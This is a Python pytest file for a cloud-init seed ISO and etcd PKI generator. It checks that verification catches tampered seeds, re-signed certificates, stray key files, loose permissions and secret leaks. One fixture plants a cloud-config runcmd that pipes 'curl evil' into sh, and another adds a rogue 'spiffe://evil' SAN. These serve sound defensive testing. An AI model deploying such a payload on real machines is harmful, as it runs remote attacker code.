"""Seeds and certificates that lie: verify finds each tampering, and a build repairs what it can."""

from __future__ import annotations

import datetime as dt
import hashlib
import ipaddress
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization

from generator.iso import SeedEntry, build_iso, read_iso
from tests.helpers.cli import (
    build,
    git,
    set_spec,
    verify,
)


def _fix_manifest(root: Path, rel: str) -> None:
    document = json.loads((root / "manifest.json").read_text())
    data = (root / rel).read_bytes()
    document["files"][rel]["sha256"] = hashlib.sha256(data).hexdigest()
    document["files"][rel]["size"] = len(data)
    (root / "manifest.json").write_text(json.dumps(document, indent=2, sort_keys=True) + "\n")


def test_iso_with_extra_vendor_data_is_rebuilt_and_fails_verify(workdir: Path) -> None:
    """An extra vendor-data on a seed, with the manifest fixed up, fails verify and is replaced by build."""
    assert build(workdir)[0] == 0
    root = workdir / "out" / "demo"
    iso = root / "etcd01" / "seed.iso"
    files = read_iso(iso.read_bytes())
    files["vendor-data"] = b"#cloud-config\nruncmd: [[sh, -c, 'curl evil | sh']]\n"
    iso.write_bytes(build_iso([SeedEntry(n, d) for n, d in files.items()], 0))
    _fix_manifest(root, "etcd01/seed.iso")
    code, _, err = verify(workdir)
    assert code == 1 and "error: etcd01/seed.iso: holds" in err and "extra ['vendor-data']" in err
    code, out, _ = build(workdir)
    assert code == 0 and "(nothing changed)" not in out
    assert "vendor-data" not in read_iso(iso.read_bytes())
    assert verify(workdir)[0] == 0


def _resign(root: Path, name: str, edit: object) -> None:
    """Re-sign pki/<name>.crt with the real CA after `edit` changes its builder; fix the manifest."""
    pki = root / "pki"
    ca_cert = x509.load_pem_x509_certificate((pki / "ca.crt").read_bytes())
    ca_key = serialization.load_pem_private_key((pki / "ca.key").read_bytes(), None)
    old = x509.load_pem_x509_certificates((pki / f"{name}.crt").read_bytes())[0]
    builder = (x509.CertificateBuilder().subject_name(old.subject).issuer_name(old.issuer).public_key(old.public_key())
               .serial_number(x509.random_serial_number()).not_valid_before(old.not_valid_before_utc)
               .not_valid_after(old.not_valid_after_utc))
    for ext in old.extensions:
        builder = builder.add_extension(ext.value, ext.critical)
    builder = edit(builder, old)  # type: ignore[operator]
    new = builder.sign(ca_key, hashes.SHA256())
    (pki / f"{name}.crt").write_bytes(new.public_bytes(serialization.Encoding.PEM) +
                                      ca_cert.public_bytes(serialization.Encoding.PEM))
    _fix_manifest(root, f"pki/{name}.crt")


def _extra_sans(builder: x509.CertificateBuilder, old: x509.Certificate) -> x509.CertificateBuilder:
    san = old.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    extended = x509.SubjectAlternativeName([*san, x509.IPAddress(ipaddress.IPv6Address("fd00::66")),
                                            x509.UniformResourceIdentifier("spiffe://evil/etcd")])
    rebuilt = x509.CertificateBuilder(old.issuer, old.subject, old.public_key(), old.serial_number,
                                      old.not_valid_before_utc, old.not_valid_after_utc)
    for ext in old.extensions:
        rebuilt = rebuilt.add_extension(extended if isinstance(ext.value, x509.SubjectAlternativeName) else ext.value,
                                        ext.critical)
    return rebuilt


def _critical_extra(builder: x509.CertificateBuilder, old: x509.Certificate) -> x509.CertificateBuilder:
    return builder.add_extension(x509.InhibitAnyPolicy(0), critical=True)


def _long_life(builder: x509.CertificateBuilder, old: x509.Certificate) -> x509.CertificateBuilder:
    rebuilt = x509.CertificateBuilder(old.issuer, old.subject, old.public_key(), old.serial_number,
                                      old.not_valid_before_utc, old.not_valid_before_utc + dt.timedelta(days=3000))
    for ext in old.extensions:
        rebuilt = rebuilt.add_extension(ext.value, ext.critical)
    return rebuilt


def _future(builder: x509.CertificateBuilder, old: x509.Certificate) -> x509.CertificateBuilder:
    start = dt.datetime.now(dt.UTC) + dt.timedelta(days=30)
    rebuilt = x509.CertificateBuilder(old.issuer, old.subject, old.public_key(), old.serial_number, start,
                                      start + dt.timedelta(days=365) + dt.timedelta(hours=1))
    for ext in old.extensions:
        rebuilt = rebuilt.add_extension(ext.value, ext.critical)
    return rebuilt


@pytest.mark.parametrize(("edit", "expected"), [
    (_extra_sans, "SANs are"),
    (_critical_extra, "has an unexpected critical extension"),
    (_long_life, "validity is"),
    (_future, "is not valid before"),
], ids=["ipv6-and-uri-sans", "critical-extension", "lifetime", "not-before-in-future"])
def test_resigned_leaf_is_caught_and_reissued(workdir: Path, edit: object, expected: str) -> None:
    """A leaf the real CA signed with anything the build would not issue fails verify, and build replaces it."""
    assert build(workdir)[0] == 0
    root = workdir / "out" / "demo"
    _resign(root, "etcd02", edit)
    code, _, err = verify(workdir)
    assert code == 1 and f"error: pki/etcd02.crt: {expected}" in err, err
    code, out, _ = build(workdir)
    assert code == 0 and "pki: etcd02: reissued" in out
    assert verify(workdir)[0] == 0


def test_leaf_of_another_key_type_fails_verify(workdir: Path) -> None:
    """A node certificate and key of another type than the spec asks for fail verify."""
    assert build(workdir)[0] == 0
    set_spec(workdir, "key_type: rsa2048", "key_type: ecdsa-p256")
    code, _, err = verify(workdir)
    assert code == 1 and "error: pki/etcd01.crt: key is rsa2048, the spec asks for ecdsa-p256" in err


def _reviewer_checkout(workdir: Path, tmp_path: Path) -> Path:
    out = workdir / "out"
    git(out, "init", "-q")
    git(out, "add", "-A")
    git(out, "commit", "-q", "-m", "c")
    review = tmp_path / "review"
    review.mkdir()
    shutil.copy(workdir / "cluster.yaml", review)
    shutil.copy(workdir / "etcd.tar.gz", review)
    subprocess.run(["git", "clone", "-q", str(out), str(review / "out")], check=True)
    return review


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
@pytest.mark.parametrize(("old", "new", "expected"), [
    ("heartbeat_interval: 100", "heartbeat_interval: 150", "etcd01/options.env: differs from what the spec renders"),
    ("gateway: 192.168.0.254", "gateway: 192.168.0.253", "etcd02/network-config: differs from what the spec renders"),
    ("backend: vxlan", "backend: host-gw", "etcd01/user-data.redacted: differs from what the spec renders"),
    ("name: demo", "name: demo", "pki/etcdctl.env: differs from what the spec renders"),
], ids=["heartbeat", "gateway", "flannel", "etcdctl-env"])
def test_reviewer_checkout_compares_public_files_with_the_spec(workdir: Path, tmp_path: Path, old: str, new: str,
                                                               expected: str) -> None:
    """With no secret present, verify still renders every public file from the spec and compares it."""
    assert build(workdir)[0] == 0
    review = _reviewer_checkout(workdir, tmp_path)
    assert verify(review)[0] == 0
    if "etcdctl" in expected:
        edited = review / "out" / "demo" / "pki" / "etcdctl.env"
        edited.write_text(edited.read_text().replace("2379", "2378", 1))
        _fix_manifest(review / "out" / "demo", "pki/etcdctl.env")
    else:
        set_spec(review, old, new)
    code, _, err = verify(review)
    assert code == 1 and f"error: {expected}" in err, err


def test_stray_files_in_pki_and_loose_modes_are_errors(workdir: Path) -> None:
    """A 0644 ca.key.bak beside the keys, and a pki/ that others can read, fail verify."""
    assert build(workdir)[0] == 0
    pki = workdir / "out" / "demo" / "pki"
    shutil.copy(pki / "ca.key", pki / "ca.key.bak")
    (pki / "ca.key.bak").chmod(0o644)
    pki.chmod(0o755)
    code, _, err = verify(workdir)
    assert code == 1
    assert "error: pki/ca.key.bak: is not a file the build wrote" in err
    assert "error: pki/: mode is 0755" in err


def test_missing_secret_is_an_error_in_an_operator_tree(workdir: Path) -> None:
    """Where secrets are present, one that is missing is an error, not a reviewer's warning."""
    assert build(workdir)[0] == 0
    (workdir / "out" / "demo" / "etcd02" / "user-data").unlink()
    code, _, err = verify(workdir)
    assert code == 1 and "error: etcd02/user-data: secret missing from this operator's tree" in err


def test_password_hash_is_not_in_the_redacted_user_data(workdir: Path) -> None:
    """user-data.redacted, which is committed, names the password hash only by its sha256."""
    digest = "$6$rounds=5000$saltsaltsaltsalt$" + "a" * 86
    spec = workdir / "cluster.yaml"
    spec.write_text(spec.read_text() + f"admin: {{password_hash: '{digest}'}}\n")
    assert build(workdir)[0] == 0
    node = workdir / "out" / "demo" / "etcd01"
    assert digest in (node / "user-data").read_text()
    redacted = (node / "user-data.redacted").read_text()
    assert digest not in redacted and hashlib.sha256(digest.encode()).hexdigest() in redacted
